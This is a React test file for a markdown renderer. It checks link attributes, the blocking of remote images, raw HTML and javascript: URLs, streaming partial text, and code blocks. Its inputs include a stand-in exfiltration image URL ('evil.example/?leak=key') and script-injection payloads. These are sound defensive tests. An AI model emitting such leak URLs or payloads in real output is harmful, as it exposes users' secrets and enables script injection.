import { render, screen } from "@testing-library/react";
import { expect, it } from "vitest";
import { Prose } from "./markdown";

it("a_link_opens_elsewhere_and_does_not_say_where_from", () => {
  render(<Prose open={false} text="[docs](https://react.dev)" />);
  const link = screen.getByRole("link", { name: "docs" });
  expect(link).toHaveProperty("target", "_blank");
  expect(link.getAttribute("rel")).toContain("noopener");
  expect(link.getAttribute("rel")).toContain("noreferrer");
});

it("a_picture_from_elsewhere_is_a_link_and_not_a_request", () => {
  const { container } = render(<Prose open={false} text="![a cake](https://evil.example/?leak=key)" />);
  expect(container.querySelector("img")).toBeNull();
  expect(screen.getByRole("link", { name: "a cake" }).getAttribute("href")).toBe("https://evil.example/?leak=key");
});

it("html_is_not_markup", () => {
  const { container } = render(<Prose open={false} text={'before <img src="https://evil.example"> <script>alert(1)</script> after'} />);
  expect(container.querySelector("img, script")).toBeNull();
});

it("a_script_address_is_taken_out", () => {
  const { container } = render(<Prose open={false} text="[x](javascript:alert(1))" />);
  expect(container.querySelector("a")?.getAttribute("href") ?? "").not.toContain("javascript");
});

it("what_is_not_closed_yet_is_closed_while_it_is_written", () => {
  const { container, rerender } = render(<Prose open text="some **bold wor" />);
  expect(container.querySelector("strong")?.textContent).toBe("bold wor");
  rerender(<Prose open={false} text="some **bold wor" />);
  expect(container.querySelector("strong")).toBeNull();
});

it("finished_blocks_are_not_drawn_again", () => {
  const { container, rerender } = render(<Prose open text={"first\n\nsecond"} />);
  const first = container.querySelector("p");
  rerender(<Prose open text={"first\n\nsecond and more"} />);
  expect(container.querySelector("p")).toBe(first);
  expect(container.textContent).toContain("second and more");
});

it("code_has_its_language_and_a_way_to_copy_it", () => {
  const { container } = render(<Prose open={false} text={"```ts\nconst a = 1;\n```"} />);
  expect(container.querySelector("pre code")?.textContent).toBe("const a = 1;");
  expect(screen.getByRole("button", { name: "Copy this code" })).toBeTruthy();
});
